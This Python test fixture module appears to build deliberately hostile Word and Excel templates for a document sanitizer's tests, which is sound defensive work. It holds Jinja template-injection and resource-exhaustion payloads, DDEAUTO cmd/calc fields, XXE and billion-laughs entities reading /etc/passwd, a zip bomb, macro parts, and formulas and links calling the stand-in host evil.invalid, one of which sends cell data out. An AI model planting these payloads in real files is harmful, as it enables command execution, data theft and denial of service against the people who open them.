"""Templates made to do harm. None must run anything, read a file, reach a network or keep the machine busy."""

from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook

from tests.exports.doctor.planting import changed, small

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TAGS = {
    "ssti-globals": "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
    "ssti-class-walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "ssti-item": "{{ title['__class__']['__base__'] }}",
    "ssti-filter": "{{ title|attr('__class__') }}",
    "ssti-format": "{{ '{0.__class__.__init__}'.format(title) }}",
    "ssti-self": "{{ self._TemplateReference__context }}",
    "huge-range": "{% for n in range(10**9) %}x{% endfor %}",
    "nested-loops": "".join(f"{{% for {n} in range(1000) %}}" for n in "abc") + "x" + "{% endfor %}" * 3,
    "doubling": "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 40 + "{{ a|length }}",
    "adding": "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a + a %}" * 40 + "{{ a|length }}",
    "multiplying": "{{ 'a' * 10**9 }}",
    "huge-batch": "{{ [1]|batch(1000000000, 'x')|list|length }}",
    "huge-replace": "{{ 'aaaaaaaaaa'" + "|replace('a', 'aaaaaaaaaa')" * 12 + " }}",
    "huge-round": "{{ 1|round(100000000, 'ceil') }}",
    "recursive-macro": "{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "unescaped": "{% autoescape false %}{{ '<w:p/>' }}{% endautoescape %}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.name }}",
    "extends": "{% extends 'report.docx' %}",
}


def field(words: str) -> str:
    """A field of this code, in the midst of a run's text."""
    return (
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{words}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>'
    )


CLOSED, OPENED = "</w:instrText></w:r><w:r><w:t>", "</w:t></w:r><w:r><w:instrText>"


def _in_body(xml: str) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        small(path, "这里")
        return changed(path, {"word/document.xml": lambda old: old.replace("这里".encode(), xml.encode())})

    return make


def _related(
    kind: str, target: str, part: str = "word/document.xml", *, external: bool = True
) -> Callable[[Path], Path]:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="rIdX" Type="{_R}/{kind}" Target="{target}"{mode}/></Relationships>'
    folder, name = part.rsplit("/", 1)

    def add(old: bytes) -> bytes:
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        return (old or empty).replace(b"</Relationships>", relation.encode())

    def make(path: Path) -> Path:
        small(path, "{{ title }}")
        return changed(path, {f"{folder}/_rels/{name}.rels": add})

    return make


def _macro_part(path: Path) -> Path:
    small(path, "{{ title }}")
    return changed(path, {"word/vbaProject.bin": lambda _: b"\xd0\xcf\x11\xe0 Sub AutoOpen()"})


def _renamed_docm(path: Path) -> Path:
    small(path, "{{ title }}")
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return changed(path, {"[Content_Types].xml": lambda old: old.replace(plain, macro)})


def _bomb(path: Path) -> Path:
    small(path, "{{ title }}")
    return changed(path, {"word/settings2.xml": lambda _: b"\0" * (300 << 20)})


def _entities(path: Path) -> Path:
    small(path, "这里")
    head = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return changed(path, {"word/document.xml": lambda old: old.replace(b"<w:document", head + b"<w:document", 1)})


def _laughs(path: Path) -> Path:
    small(path, "{{ title }}")
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE w [<!ENTITY l0 "ha">{lines}]>'.encode()
    return changed(path, {"word/styles.xml": lambda old: old.replace(b"<w:styles", head + b"<w:styles", 1)})


def _no_package(path: Path) -> Path:
    path.write_bytes(b"MZ\0\0 this is a program")
    return path


def _cut_off(path: Path) -> Path:
    small(path, "{{ title }}")
    path.write_bytes(path.read_bytes()[:4000])
    return path


def _tagged(text: str) -> Callable[[Path], Path]:
    return lambda path: small(path, text.replace("CANARY", str(path.parent / "canary")))


WORD: dict[str, Callable[[Path], Path]] = {
    **{name: _tagged(text) for name, text in _TAGS.items()},
    "dde-field": _in_body(field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"')),
    "includetext": _in_body(field(r'INCLUDETEXT "file:///etc/passwd"')),
    "includepicture": _in_body(field(r'includepicture "http://evil.invalid/x.png" \\d')),
    "split-dde": _in_body(field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd")),
    "simple-field": _in_body('</w:t></w:r><w:fldSimple w:instr="LINK Excel.Sheet.8 c:\\\\x.xls"/><w:r><w:t>'),
    "quoted-dde": _in_body(field('"DDEAUTO" cmd')),
    "escaped-dde": _in_body(field("\\DDEAUTO cmd")),
    "nested-quote": _in_body(field(f"{CLOSED}{field('QUOTE 68 68 69')}{OPENED} cmd")),
    "nested-before-page": _in_body(field(f"{CLOSED}{field('QUOTE 68 68 69')}{OPENED} PAGE")),
    "share-field": _in_body(field(r'HYPERLINK "\\evil.invalid\share"')),
    "share-field-behind-a-switch": _in_body(field(r'HYPERLINK \t "x" "\\evil.invalid\share"')),
    "ole": _in_body('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/>'),
    "ole-part": _related("oleObject", "embeddings/oleObject1.bin", external=False),
    "attached-template": _related("attachedTemplate", "http://evil.invalid/x.dotm", "word/settings.xml"),
    "outside-picture": _related("image", r"\\evil.invalid\share\x.png"),
    "file-link": _related("hyperlink", "file://evil.invalid/share/x.exe"),
    "foreign-chunk": _related("aFChunk", "chunk.rtf", external=False),
    "macro": _macro_part,
    "renamed-docm": _renamed_docm,
    "zip-bomb": _bomb,
    "xxe": _entities,
    "billion-laughs": _laughs,
    "program": _no_package,
    "cut-off": _cut_off,
}


def with_formula(formula: str) -> Callable[[Path], Path]:
    """A workbook with this in a cell."""

    def make(path: Path) -> Path:
        workbook = Workbook()
        assert workbook.active is not None
        workbook.active.title = "问题台账"
        workbook.active.append(["序号", "底稿编号", formula])
        workbook.save(path)
        return path

    return make


_formula = with_formula("=cmd|'/c calc'!A1")


def _outside_book(path: Path) -> Path:
    _formula(path)
    external = (
        f'<Relationship Id="rIdX" Type="{_R}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    )
    return changed(
        path, {"xl/_rels/workbook.xml.rels": lambda old: old.replace(b"</Relationships>", external.encode())}
    )


def _macro_book(path: Path) -> Path:
    _formula(path)
    return changed(path, {"xl/vbaProject.bin": lambda _: b"macro"})


def _in_sheet(xml: str, behind: str = "</sheetData>", part: str = "xl/worksheets/sheet1.xml") -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        with_formula("标题")(path)
        return changed(path, {part: lambda old: old.replace(behind.encode(), f"{behind}{xml}".encode())})

    return make


def _named(name: str, formula: str) -> Callable[[Path], Path]:
    names = f'<definedNames><definedName name="{name}">{formula}</definedName></definedNames>'
    return _in_sheet(names, "</sheets>", "xl/workbook.xml")


_FORMAT = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
_VALID = '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>{}</formula1></dataValidation>'
_WEB = 'WEBSERVICE("http://evil.invalid")'

SHEETS: dict[str, Callable[[Path], Path]] = {
    "dde-formula": _formula,
    "lower-case": with_formula('=webservice("http://evil.invalid")'),
    "picture-function": with_formula('=_xlfn.IMAGE("http://evil.invalid/x.png")'),
    "share-link": with_formula(r'=HYPERLINK("\\evil.invalid\x")'),
    "web-link": with_formula('=HYPERLINK("http://evil.invalid?"&A1)'),
    "conditional-format": _in_sheet(_FORMAT.format(_WEB) + "</conditionalFormatting>"),
    "validation": _in_sheet(_VALID.format(_WEB) + "</dataValidations>"),
    "dde-name": _named("甲", "cmd|'/c calc'!A1"),
    "auto-open": _named("_xlnm.Auto_Open", "问题台账!$A$1"),
    "outside-book": _outside_book,
    "macro-book": _macro_book,
}
